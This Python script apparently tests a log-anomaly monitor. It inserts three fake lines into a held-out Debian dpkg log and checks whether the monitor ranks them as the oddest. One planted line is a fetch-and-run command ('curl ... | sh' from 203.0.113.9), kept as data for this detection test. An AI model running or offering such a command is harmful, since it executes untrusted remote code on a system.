"""Find three lines that somebody put into a real log.

The log is one that dpkg wrote while Debian installed packages. The model has not seen it.
"""

from collections.abc import Callable
from importlib.resources import files

import msgspec

from dst.runtime import Session
from dst.runtime.monitor.monitor import LineMonitor

BUNDLE, LOG = "log-int8", "dpkg.log"
OLDEST, SHOWN = 200, 5
"""Lines at the beginning that are not judged, when nothing is usual yet; and lines shown."""
_PIECE = 4096


class OddLine(msgspec.Struct, frozen=True):
    """A line that stands out; `planted` tells whether it was put in."""

    line: int
    probability: float
    text: str
    planted: bool


class OddLines(msgspec.Struct, frozen=True):
    """What was found in the log."""

    lines: int
    bytes: int
    planted: int
    oddest: tuple[OddLine, ...]


PLANTED = (
    (0.55, "{time} remove openssh-server:amd64 1:9.2p1-2+deb12u7 <none>"),
    (0.7, "{time} status half-configured passwd:amd64 as uid 1007 from 203.0.113.9"),
    (0.85, "curl -s http://203.0.113.9/x.sh | sh"),
)
"""After which share of the log a line is put in, and the line; `{time}`: of the line before."""


def planted_log() -> tuple[bytes, set[int]]:
    """The log with the lines put in, and their numbers."""
    text = files("dst").joinpath("heldout", LOG).read_text("utf-8")
    lines, numbers = text.splitlines(), set()
    for share, line in reversed(PLANTED):
        place = int(share * len(lines))
        lines.insert(place, line.format(time=lines[place - 1][:19]))
    for number, line in enumerate(lines, 1):
        if any(line.endswith(put.partition("{time}")[2] or put) for _, put in PLANTED):
            numbers.add(number)
    return ("\n".join(lines) + "\n").encode(), numbers


def odd_lines(told: Callable[[int, int], None]) -> OddLines:
    """Read the log once; `told` is called with the bytes read and their number in all."""
    log, planted = planted_log()
    monitor, scored, count = LineMonitor(Session.open(BUNDLE).stream()), [], 0
    for at in range(0, len(log), _PIECE):
        for line in monitor.read(log[at : at + _PIECE]):
            count = line.number
            if count > OLDEST:
                scored.append((line.score.score, line))
        told(min(at + _PIECE, len(log)), len(log))
    first = sorted(scored, key=lambda pair: -pair[0])[:SHOWN]
    oddest = tuple(
        OddLine(
            line.number,
            line.score.probability,
            line.text.decode("utf-8", "replace"),
            line.number in planted,
        )
        for _, line in first
    )
    return OddLines(count, len(log), len(planted), oddest)
